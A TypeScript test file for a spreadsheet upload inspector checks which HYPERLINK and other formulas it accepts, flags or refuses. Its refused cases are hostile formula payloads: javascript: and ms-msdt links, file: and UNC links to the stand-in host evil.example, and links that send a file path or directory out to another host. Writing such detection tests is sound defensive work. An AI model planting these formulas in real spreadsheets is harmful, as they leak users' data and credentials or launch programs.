import { expect, it } from "vitest";
import { Scan } from "../../../src/intake/inspection/finding";
import { judgeCell, judgeFormula } from "../../../src/intake/inspection/formulas";

/** What becomes of a file with a formula. */
function outcome(formula: string): "taken" | "marked" | "refused" {
  const { acting, unknown } = judgeFormula(formula, new Scan());
  if (acting !== null) return "refused";
  return unknown.length > 0 ? "marked" : "taken";
}

it.each([
  'HYPERLINK("https://wa.me/"&B2)',
  'HYPERLINK("https://wa.me/"&SUBSTITUTE(B2,"0","62",1),"Chat")',
  'HYPERLINK("https://api.whatsapp.com/send?phone="&B2,"Chat")',
  'HYPERLINK("https://www.google.com/maps?q="&A2&","&B2,"Peta")',
  'HYPERLINK("https://rs.example/"&"tarif?a=1","Tarif")',
  'HYPERLINK(CONCATENATE("https://wa.me/",B2),"Chat")',
  'HYPERLINK(("https://wa.me/"&B2))',
  'HYPERLINK(_xlfn.CONCAT("mailto:",C2))',
  'HYPERLINK("mailto:"&C2&"?subject=Tarif")',
  'HYPERLINK("tel:"&C2)',
  'HYPERLINK("#\'"&A2&"\'!A1",A2)',
  'HYPERLINK("Lampiran/"&A2&".pdf")',
  'HYPERLINK("C:\\Tarif\\"&A2)',
  'IF(B2="","",HYPERLINK("https://wa.me/"&B2,"Chat"))',
])("a link to a fixed address, a known service or a place beside the file is taken: %s", (formula) => {
  expect(outcome(formula)).toBe("taken");
});

it.each([
  "HYPERLINK(B2)",
  'HYPERLINK("https://"&B2,"Situs")',
  'HYPERLINK("https://a.example/?q="&A2,"Cari")',
  'HYPERLINK(CONCATENATE("https://a.example/?q=",_xlfn.ENCODEURL(A2)))',
  'HYPERLINK("https://wa.me"&B2)',
  'HYPERLINK("https://wa.me.a.example/"&B2)',
  'HYPERLINK(B2&"/share")',
  'HYPERLINK("/"&B2)',
  'HYPERLINK("java"&B2)',
  'HYPERLINK("file:"&B2)',
  'HYPERLINK("notes:"&B2)',
  'HYPERLINK(IF(A1=1,"https://a.example","https://b.example"))',
])("a link that carries cells to any other host, or whose beginning is computed, is marked: %s", (formula) => {
  expect(outcome(formula)).toBe("marked");
});

it.each([
  'HYPERLINK("java"&"script:alert(1)")',
  'HYPERLINK("file:"&"//evil.example/share")',
  'HYPERLINK("\\"&"\\evil.example\\"&A1)',
  'HYPERLINK("\\\\"&B2)',
  'HYPERLINK(("file://evil.example/"&B2))',
  'HYPERLINK(CONCATENATE("ms-msdt:","/id"))',
  'HYPERLINK("https://a.example/"&WEBSERVICE(B2))',
  'HYPERLINK("https://a.example/?"&CELL("filename"),"klik")',
  'HYPERLINK("https://wa.me/?text="&SUBSTITUTE(INFO("directory"),"a","b"))',
])(
  "a link that starts a program, reaches into a network or tells of the reader's machine is refused: %s",
  (formula) => {
    expect(outcome(formula)).toBe("refused");
  },
);

it.each([
  'STOCKHISTORY("MSFT",TODAY())',
  '_xlfn.STOCKHISTORY(A2,"1/1/2026")',
  '_xlfn.TRANSLATE(A2,"en","id")',
  'GOOGLEFINANCE("IDX:BBCA")',
  'COPILOT("ringkas",A2:A9)',
])("a function that sends cells to any service is refused: %s", (formula) => {
  expect(outcome(formula)).toBe("refused");
});

it.each(["- New (baru)", "+ Image (foto)", "- Open (buka)", "@Input (data, hasil)", "- Request (formulir)"])(
  "words with brackets are a text: %s",
  (cell) => {
    expect(judgeCell(cell, new Scan())).toEqual({ acting: null, unknown: [] });
  },
);

it.each([
  "-IMAGE(A1)",
  '+EXEC("calc")',
  "-HALT()",
  "- Webservice (alamat)",
  "=IMAGE(foto)",
  "+IMAGE(RC)",
  "-IMAGE(a1b)",
])("a call with values is none: %s", (cell) => {
  expect(judgeCell(cell, new Scan()).acting).not.toBeNull();
});

it("a cell of a table is judged by the same rules", () => {
  expect(judgeCell('=HYPERLINK("https://wa.me/"&B2)', new Scan())).toEqual({ acting: null, unknown: [] });
  expect(judgeCell('=HYPERLINK("file://evil.example/"&B2)', new Scan()).acting).toBe("HYPERLINK");
});
